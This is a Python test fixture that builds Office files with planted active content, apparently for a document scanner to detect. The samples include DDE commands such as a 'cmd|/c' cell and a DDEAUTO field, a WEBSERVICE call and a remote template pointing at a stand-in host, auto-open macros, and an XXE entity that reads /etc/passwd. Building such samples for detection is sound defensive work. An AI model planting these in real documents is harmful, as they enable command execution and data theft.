"""Office documents with every feature that acts, fetches or carries; read again with zipfile and lxml."""

import io
import zipfile
from collections.abc import Callable, Mapping

import openpyxl
from lxml import etree
from openpyxl.styles import Font, PatternFill

from tests.corpus.images import saved
from tests.corpus.planted import MARK, Planted

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_TYPE = "application/vnd.openxmlformats-officedocument"
_EVIL = f"http://{MARK.lower()}.example/"


class Package:
    """A package that is being put together: parts with their kinds, and relationships of parts."""

    def __init__(self, main: str, kind: str, content: str) -> None:
        self.parts: dict[str, tuple[bytes, str]] = {}
        self.relations: dict[str, list[tuple[str, str, str]]] = {"": []}
        self.main = main
        self.add(main, content.encode(), kind, owner="", relation="officeDocument")

    def add(self, part: str, content: bytes, kind: str, *, owner: str | None = None, relation: str = "x") -> str:
        """Add a part that `owner` points to (the main part where not said); returns the id."""
        self.parts[part] = (content, kind)
        return self.point(part, relation=relation, owner=self.main if owner is None else owner)

    def point(self, target: str, *, relation: str, owner: str | None = None, mode: str = "") -> str:
        """Add a relationship; returns its id."""
        known = self.relations.setdefault(self.main if owner is None else owner, [])
        known.append((relation if "/" in relation else f"{_REL}/{relation}", target if mode else f"/{target}", mode))
        return f"rId{len(known)}"

    def change(self, before: str, after: str) -> None:
        """Put something into the main part."""
        content, kind = self.parts[self.main]
        assert before.encode() in content
        self.parts[self.main] = (content.replace(before.encode(), after.encode(), 1), kind)

    def pack(self, extra: Mapping[str, bytes] | None = None) -> bytes:
        """Write the package."""
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr("[Content_Types].xml", self._types())
            for owner, relations in self.relations.items():
                folder, _, last = owner.rpartition("/")
                archive.writestr(f"{folder}/_rels/{last}.rels".lstrip("/"), _relations(relations))
            for part, (content, _) in self.parts.items():
                archive.writestr(part, content)
            for part, content in (extra or {}).items():
                archive.writestr(part, content)
        return out.getvalue()

    def _types(self) -> str:
        kinds = "".join(f'<Override PartName="/{part}" ContentType="{kind}"/>' for part, (_, kind) in self.parts.items())
        return ('<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" '
                f'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>{kinds}</Types>')


def _relations(relations: list[tuple[str, str, str]]) -> str:
    rows = "".join(f'<Relationship Id="rId{number}" Type="{kind}" Target="{target}"{f" TargetMode={mode!r}" if mode else ""}/>'
                   for number, (kind, target, mode) in enumerate(relations, start=1)).replace("'External'", '"External"')
    return f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{rows}</Relationships>'


BODY = ('<w:p><w:pPr><w:pStyle w:val="Heading1"/></w:pPr><w:r><w:t>就労証明書</w:t></w:r></w:p>'
        '<w:tbl><w:tr><w:tc><w:p><w:r><w:t>氏名</w:t></w:r></w:p></w:tc><w:tc><w:p><w:r><w:t>葛󠄀城 花子</w:t></w:r></w:p>'
        '</w:tc></w:tr></w:tbl><w:p><w:r><w:t>ページ </w:t></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r>'
        '<w:instrText> PAGE </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p><w:p/>')


def word(kind: str = f"{_TYPE}.wordprocessingml.document.main+xml") -> Package:
    """A letter with a heading, a table, a counted page and a picture."""
    package = Package("word/document.xml", kind,
                      f'<w:document xmlns:w="{W}" xmlns:r="{R}"><w:body>{BODY}<w:sectPr/></w:body></w:document>')
    package.add("word/styles.xml", f'<w:styles xmlns:w="{W}"><w:style w:styleId="Heading1"/></w:styles>'.encode(),
                f"{_TYPE}.wordprocessingml.styles+xml", relation="styles")
    picture = package.add("word/media/image1.png", saved("PNG"), "image/png", relation="image")
    package.change("<w:p/>", f'<w:p><w:r><w:drawing><a:blip xmlns:a="urn:a" r:embed="{picture}"/></w:drawing></w:r></w:p><w:p/>')
    return package


def sheet() -> bytes:
    """A table with values, formulas, a style, a merged cell and two sheets."""
    book = openpyxl.Workbook()
    first = book.active
    first.title = "収支"
    first.append(["項目", "円"])
    first.append(["家賃", 52000])
    first.append(["光熱費", 8300])
    first["B4"] = "=SUM(B2:B3)"
    first["A1"].font, first["B1"].fill = Font(bold=True), PatternFill("solid", fgColor="FFEE00")
    first.merge_cells("A6:B6")
    first.column_dimensions["A"].width = 24
    book.create_sheet("二枚目")["C3"] = "葛󠄀城"
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def rewritten(data: bytes, part: str, change: Callable[[bytes], bytes], extra: Mapping[str, bytes] | None = None) -> bytes:
    """Change one part of a package, and add others."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for entry in source.infolist():
            content = source.read(entry)
            target.writestr(entry.filename, change(content) if entry.filename == part else content)
        for name, content in (extra or {}).items():
            target.writestr(name, content)
    return out.getvalue()


def parts_of(data: bytes) -> dict[str, bytes]:
    """Unpack a package."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def text_of(data: bytes, part: str = "word/document.xml") -> list[str]:
    """Read the paragraphs of a letter."""
    root = etree.fromstring(parts_of(data)[part])
    return ["".join(one.text or "" for one in paragraph.iter(f"{{{W}}}t")) for paragraph in root.iter(f"{{{W}}}p")]


def _holds(*signs: str) -> Callable[[bytes], bool]:
    """Look for signs in the names and contents of all parts, whatever their case."""
    wanted = [sign.lower().encode() for sign in signs]
    return lambda data: any(sign in f"{name}\n".lower().encode() + content.lower()
                            for name, content in parts_of(data).items() for sign in wanted)


def _field(*pieces: str) -> str:
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return (f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
            '<w:r><w:t>見えるところ</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')


def _letter(change: Callable[[Package], None], kind: str | None = None) -> bytes:
    package = word(kind) if kind else word()
    change(package)
    return package.pack()


def _macro(package):
    package.add("word/vbaProject.bin", MARK.encode(), "application/vnd.ms-office.vbaProject", relation="vbaProject")
    package.add("word/vbaData.xml", b"<x/>", "application/vnd.ms-word.vbaData+xml", relation="vbaData")


def _ole(package):
    number = package.add("word/embeddings/oleObject1.bin", MARK.encode(), f"{_TYPE}.oleObject", relation="oleObject")
    package.change("<w:p/>", f'<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:o" r:id="{number}"/></w:object></w:r></w:p>')


def _active_x(package):
    number = package.add("word/activeX/activeX1.xml", MARK.encode(), "application/vnd.ms-office.activeX+xml", relation="control")
    package.change("<w:p/>", f'<w:p><w:r><w:control r:id="{number}"/></w:r></w:p>')


def _external_picture(package):
    number = package.point(_EVIL + "a.png", relation="image", mode="External")
    package.change("<w:p/>", f'<w:p><w:r><w:drawing><a:blip xmlns:a="urn:a" r:link="{number}"/></w:drawing></w:r></w:p>')


def _hyperlink(package):
    number = package.point(_EVIL, relation="hyperlink", mode="External")
    package.change("<w:p/>", f'<w:p><w:hyperlink r:id="{number}"><w:r><w:t>見えるところ</w:t></w:r></w:hyperlink></w:p>')


def _template(package):
    package.add("word/settings.xml", f'<w:settings xmlns:w="{W}" xmlns:r="{R}"><w:attachedTemplate r:id="rId1"/></w:settings>'.encode(),
                f"{_TYPE}.wordprocessingml.settings+xml", relation="settings")
    package.point(_EVIL + "t.dotm", relation="attachedTemplate", owner="word/settings.xml", mode="External")


def _alt_chunk(package):
    number = package.add("word/chunk.html", f"<script>{MARK}</script>".encode(), "text/html", relation="aFChunk")
    package.change("<w:p/>", f'<w:altChunk r:id="{number}"/>')


def _custom_ui(package):
    package.add("customUI/customUI.xml", f'<customUI onLoad="{MARK}"/>'.encode(), "application/xml", owner="",
                relation="http://schemas.microsoft.com/office/2006/relationships/ui/extensibility")


def _embedded(package):
    package.add("word/embeddings/book.xlsx", MARK.encode(), f"{_TYPE}.spreadsheetml.sheet", relation="package")


def _properties(package):
    package.add("docProps/core.xml", f"<x>{MARK}</x>".encode(), "application/vnd.openxmlformats-package.core-properties+xml",
                owner="", relation="metadata/core-properties")
    package.add("customXml/item1.xml", f"<x>{MARK}</x>".encode(), "application/xml", relation="customXml")


def _put(text: str) -> Callable[[Package], None]:
    return lambda package: package.change("<w:p/>", text)


def _cell(formula: str) -> bytes:
    return rewritten(sheet(), "xl/worksheets/sheet1.xml", lambda part: part.replace(b"SUM(B2:B3)", formula.encode()))


def _external_book() -> bytes:
    return rewritten(sheet(), "xl/workbook.xml", lambda part: part.replace(
        b"</workbook>", b'<externalReferences><externalReference xmlns:r="%s" r:id="rId99"/></externalReferences></workbook>' % R.encode()),
        extra={"xl/externalLinks/externalLink1.xml": f'<externalLink><ddeLink ddeService="cmd" ddeTopic="{MARK}"/></externalLink>'.encode()})


def _auto_open() -> bytes:
    return rewritten(sheet(), "xl/workbook.xml", lambda part: part.replace(
        b"</workbook>", b'<definedNames><definedName name="_xlnm.Auto_Open">Sheet1!$A$1</definedName></definedNames></workbook>'))


DOCM = "application/vnd.ms-word.document.macroEnabled.main+xml"


def planted() -> list[Planted]:
    """Every office document with something planted."""
    letters: list[tuple[str, Callable[[Package], None], tuple[str, ...], str]] = [
        ("macros", _macro, ("vbaProject", "vbaData"), "macro"),
        ("OLE object", _ole, ("oleObject", "embeddings"), "ole"),
        ("ActiveX", _active_x, ("activeX", "w:control"), "activex"),
        ("picture from outside", _external_picture, (_EVIL, 'TargetMode="External"'), "external_link"),
        ("hyperlink", _hyperlink, (_EVIL, "w:hyperlink"), "external_link"),
        ("remote template", _template, (_EVIL, "attachedTemplate"), "remote_template"),
        ("HTML inside", _alt_chunk, ("altChunk", "text/html", MARK), "embedded_file"),
        ("own ribbon", _custom_ui, ("customUI",), "custom_ui"),
        ("document inside", _embedded, ("embeddings/",), "embedded_file"),
        ("properties", _properties, ("docProps", "customXml", MARK), "metadata"),
        ("DDE field", _put(_field(f' DDEAUTO c:\\\\x.exe "{MARK}" ')), ("DDEAUTO", MARK), "dde"),
        ("DDE field in pieces", _put(_field(" DD", "E", f"AUTO x {MARK} ")), (MARK, "AUTO x"), "dde"),
        ("simple DDE field", _put(f'<w:p><w:fldSimple w:instr="DDE x {MARK}"><w:r><w:t>見えるところ</w:t></w:r></w:fldSimple></w:p>'),
         ("DDE x", MARK), "dde"),
        ("field that fetches", _put(_field(f' INCLUDEPICTURE "{_EVIL}" \\d ')), ("INCLUDEPICTURE", _EVIL), "external_link"),
        ("macro button", _put(_field(f" MACROBUTTON {MARK} x ")), ("MACROBUTTON",), "macro"),
    ]
    return [
        *(Planted(f"{feature} in a letter", "letter.docx", _letter(change), _holds(*signs), told)
          for feature, change, signs, told in letters),
        Planted("letter with macros", "letter.docm", _letter(_macro, DOCM), _holds("macroEnabled", "vbaProject"), "macro"),
        Planted("DDE in a cell", "b.xlsx", _cell(f"cmd|'/c {MARK}'!A0"), _holds("cmd|"), "dde"),
        Planted("fetching formula", "b.xlsx", _cell(f'WEBSERVICE("{_EVIL}")'), _holds("WEBSERVICE"), "formula"),
        Planted("formula to another book", "b.xlsx", _cell("[1]Sheet1!A1"), _holds("[1]Sheet1"), "formula"),
        Planted("book linked to another", "b.xlsx", _external_book(), _holds("ddeLink", "externalReference"), "external_link"),
        Planted("macro that runs on opening", "b.xlsx", _auto_open(), _holds("Auto_Open"), "macro"),
        Planted("script behind a letter", "letter.docx", word().pack({"evil.js": MARK.encode()}), _holds("evil.js"), "other_part"),
    ]


def with_entities() -> bytes:
    """A letter whose XML would grow without end, or read a file, if its entities were followed."""
    laughs = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "' + "&a;" * 50 + '"><!ENTITY c SYSTEM "file:///etc/passwd">]>'
    package = word()
    content, kind = package.parts[package.main]
    package.parts[package.main] = (laughs.encode() + content.replace("就労証明書".encode(), b"&b;&c;"), kind)
    return package.pack()
